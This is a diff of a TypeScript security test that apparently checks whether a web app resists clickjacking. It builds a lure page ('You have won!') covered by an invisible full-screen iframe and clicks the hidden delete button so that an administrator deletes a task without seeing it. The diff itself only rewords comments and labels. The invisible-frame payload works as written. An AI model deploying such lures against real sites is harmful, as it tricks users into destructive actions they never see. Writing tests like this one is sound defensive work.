@@ -5,14 +5,14 @@ import { addTask, hasTask, register } from "./client.ts";
 import { findFrame } from "./frame.ts";
 import { withLuredPage } from "./lure.ts";
 
-/** The frame is there, above the page of the attacker, and nobody sees it. */
+/** The frame is invisible, above the page of the attacker. */
 const trap = (url: string) =>
   `<h1>You have won!</h1><p>Click here.</p>
    <iframe src="${url}" style="position:fixed;inset:0;width:100%;height:100%;opacity:0"></iframe>`;
 
-/** An administrator clicks on what they see, and presses a button that they do not see. */
+/** Clickjacking: an administrator clicks on the visible page, and presses a button in the invisible frame. */
 export default attack({
-  name: "tasks deleted by a click elsewhere, of 1",
+  name: "tasks deleted by clickjacking, of 1",
   async attempt({ api, browser, cookies }) {
     const victim = await register(api);
     const task = await addTask(api, victim);
@@ -26,10 +26,10 @@ export default attack({
   },
 });
 
-/** The attacker knows the page, and has put what the visitor wants where its button is. */
+/** The attacker knows the position of the button in the frame. */
 async function clickUnseen(page: Page, frame: Frame): Promise<void> {
   const box = await frame.getByRole("button", { name: /delete/i }).boundingBox();
-  if (!box) throw new SetupError("The page that asks before it deletes has no button for it.");
+  if (!box) throw new SetupError("The page that confirms a deletion has no button for it.");
   const answering = page.waitForResponse((response) => response.request().method() === "POST");
   await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
   await answering;
